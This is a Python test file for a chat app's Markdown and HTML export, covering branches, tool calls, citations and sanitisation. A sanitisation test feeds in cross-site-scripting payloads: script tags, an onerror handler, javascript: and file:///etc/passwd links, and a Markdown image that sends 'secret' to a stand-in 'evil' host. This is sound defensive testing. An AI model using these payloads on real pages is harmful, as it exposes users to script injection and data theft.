"""Markdown and HTML: to be read, printed and pasted, and harmless."""

from __future__ import annotations

import html.parser

import pytest

from app.core.chats.conversation import Conversation, new_details
from app.core.chats.steps import ToolResult
from app.core.chats.turns import Attachment
from app.core.exchange import markdown, page
from app.core.exchange.block_html import html_of
from app.core.markdown.blocks import Prose
from app.core.markdown.parse import MarkdownReader
from backends.contract.messages import Channel, Effort
from tests.app.core.store.conftest import say, talk, with_call, with_citation


def branched() -> Conversation:
    """Two answers to one question, and a file."""
    conversation = talk(("How do otters sleep?", "Holding hands."))
    low = conversation.branch()[1].id
    conversation.ask("Thanks", (Attachment("notes.md", "```\nx\n```"),))
    high = conversation.regenerate(low, Effort.HIGH).id
    say(conversation, high, "In holts.")
    conversation.edit_answer(high, "In holts, mostly.")
    return conversation


def test_markdown_of_the_branch_in_view() -> None:
    text = markdown.of_conversation(branched())
    assert text.startswith("# How do otters sleep?\n")
    assert "**Instructions**\n\n> Be brief." in text
    assert "## Answer · high effort · edited by hand\n\nReasoning:\n\n> thought\n\nIn holts, mostly." in text
    assert "Holding hands." not in text
    assert "version" not in text


def test_markdown_of_all_branches_says_what_follows_what() -> None:
    text = markdown.of_conversation(branched(), all_branches=True)
    assert text.index("## Answer · low effort · version 1 of 2") < text.index("Thanks")
    assert "## Answer · high effort · version 2 of 2 · edited by hand · follows “How do otters sleep?”" in text
    assert "File `notes.md`:\n\n````\n```\nx\n```\n````" in text


class Harm(html.parser.HTMLParser):
    """Collects what could run, load or lead somewhere."""

    def __init__(self) -> None:
        super().__init__()
        self.tags: set[str] = set()
        self.links: list[str] = []
        self.risky: list[tuple[str, str | None]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.add(tag)
        for name, value in attrs:
            if name == "href":
                self.links.append(value or "")
            elif name.startswith("on") or name in ("src", "srcset", "action", "data", "style", "background"):
                self.risky.append((name, value))


@pytest.mark.parametrize(
    "text",
    [
        "<script>alert(1)</script>",
        "<img src=x onerror=alert(1)>",
        "![x](http://evil/?q=secret)",
        "[x](javascript:alert(1))",
        "[x](smb://evil/share) [y](ms-msdt:/id) [z](file:///etc/passwd) [w](data:text/html,x)",
        "<http://fine.example> <smb://evil>",
        "```html\n<script>alert(1)</script>\n```",
        "</article></body><iframe src='http://evil'>",
        "| a |\n|---|\n| <b onclick=x>b</b> |",
    ],
)
def test_the_page_runs_nothing_loads_nothing_and_leads_only_to_the_web(text: str) -> None:
    conversation = Conversation(new_details(instructions=text))
    asked = conversation.ask(text, (Attachment(text, text),)).id
    reply = conversation.begin_answer(asked, Effort.LOW).id
    conversation.append(reply, Channel.ANALYSIS, text)
    conversation.append(reply, Channel.FINAL, text)
    conversation.rename(text)
    parser = Harm()
    parser.feed(page.of_conversation(conversation, all_branches=True))
    assert not parser.tags & {"script", "img", "iframe", "object", "link", "form", "base", "b"}
    assert not parser.risky
    assert all(link.startswith(("http://", "https://", "mailto:")) for link in parser.links)


def test_the_page_is_set_from_markdown_and_prints() -> None:
    conversation = talk(("Table?", "| a | b |\n|---|---|\n| 1 | 2 |\n\n**bold** [web](https://example.org)"))
    text = page.of_conversation(conversation)
    assert "<table dir=" in text
    assert "<strong>bold</strong>" in text
    assert '<a href="https://example.org">web</a>' in text
    assert "@media print" in text
    assert "default-src 'none'" in text


def test_calls_and_results_stand_plainly_where_they_were_made() -> None:
    text = markdown.of_conversation(with_call())
    told = (
        'Reasoning:\n\n> I have to ask.\n\nCall of `functions.weather`:\n\n```\n{"place": "Bern"}\n```\n\n'
        "Result of `functions.weather`:\n\n```\n<b>sunny</b>\n```\n\nIt is sunny."
    )
    assert told in text
    shown = page.of_conversation(with_call())
    assert (
        "<summary>Call of functions.weather</summary><pre dir='auto'>{&quot;place&quot;: &quot;Bern&quot;}</pre>"
        in shown
    )
    assert "<pre dir='auto'>&lt;b&gt;sunny&lt;/b&gt;</pre>" in shown


def test_citations_are_notes_with_a_list_below() -> None:
    text = markdown.of_conversation(with_citation())
    assert "Three months[1], they say【7†L1】.\n\n- [1] a.org – The <law> <https://a.org/>" in text
    shown = page.of_conversation(with_citation())
    assert "Three months<sup>[1]</sup>, they say【7†L1】." in shown
    assert '[1] <a href="https://a.org/">a.org – The &lt;law&gt;</a></p>' in shown


def test_a_call_that_was_not_run_says_so() -> None:
    conversation = Conversation(new_details())
    reply = conversation.begin_answer(conversation.ask("Weather?").id, Effort.LOW).id
    conversation.append_call(reply, "functions.weather", Channel.COMMENTARY, "{", begins=True)
    conversation.fail(reply, "engine_lost")
    assert "Call of `functions.weather` (not run):\n\n```\n{\n```\n\n*(no answer)*" in markdown.of_conversation(
        conversation
    )


def asked_on(answer: str) -> str:
    """The Markdown of a chat that goes on after this answer."""
    return markdown.of_conversation(talk(("Show code", answer), ("And now?", "Second answer")))


@pytest.mark.parametrize(
    "cut",
    [
        "Cut here:\n\n```py\nprint(1)",
        "~~~~\nx\n~~~",
        "```md\n# A\n\n```sh\nls\n```\nmore",
        "```md\n```py\nx",
        "$$\nx^2",
        "\\[ x",
        "```",
    ],
)
def test_what_a_cut_answer_leaves_open_does_not_swallow_the_rest(cut: str) -> None:
    blocks = MarkdownReader().all_blocks(asked_on(cut))
    headings = [
        "".join(run.shown for run in block.runs) for block in blocks if isinstance(block, Prose) and block.level
    ]
    assert headings[-2:] == ["Question", "Answer · low effort"]


@pytest.mark.parametrize("whole", ["```py\nx\n```", "~~~\nx\n~~~\n\nwords", "$$x$$", "\\[ x \\]", "a ``` b", ""])
def test_what_is_whole_stays_as_it_is(whole: str) -> None:
    assert markdown.closed(whole) == whole


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("**粗体**文字", '<p dir="auto"><strong>粗体</strong>文字</p>'),
        ("- a\n- b\n\n  c\n1. d", '<ul><li dir="auto">a</li><li dir="auto">b<p dir="auto">c</p></li></ul>'),
        ("3. a\n   - b", '<ol><li dir="auto" value="3">a<ul><li dir="auto">b</li></ul></li></ol>'),
        ("- [x] done", '<li dir="auto">\u2611 done</li>'),
        ("> a\n\nb", '<blockquote><p dir="auto">a</p></blockquote><p dir="auto">b</p>'),
        ("| a |\n|:-:|\n| `b\\|c` |", '<th dir="auto" class="center">a</th>'),
        ("שלום *עולם*", '<p dir="auto">שלום <em>עולם</em></p>'),
        ("a $x^2$", '<p dir="auto">a <span class="formula" dir="ltr">$x^2$</span></p>'),
    ],
)
def test_the_page_shows_blocks_as_the_window_does(text: str, expected: str) -> None:
    shown = html_of(MarkdownReader().all_blocks(text)).replace("\n", "")
    assert expected in shown


def test_a_long_table_is_one_table() -> None:
    rows = "\n".join(f"| {number} |" for number in range(30))
    shown = html_of(MarkdownReader().all_blocks(f"| n |\n|---|\n{rows}"))
    assert (shown.count("<table"), shown.count("<tr>"), shown.count("</table>")) == (1, 31, 1)


@pytest.mark.parametrize(
    ("result", "heading"),
    [
        (ToolResult("python", "1"), "Result of `python`"),
        (ToolResult("python", "1", is_failure=True), "Result of `python` (failed)"),
        (ToolResult("python", "1", is_failure=True, is_denied=True), "Result of `python` (not allowed)"),
        (ToolResult("python", "1", is_failure=True, is_unmade=True), "Result of `python` (not run)"),
    ],
)
def test_a_result_says_how_it_came_about(result: ToolResult, heading: str) -> None:
    assert markdown.result_heading(result) == heading
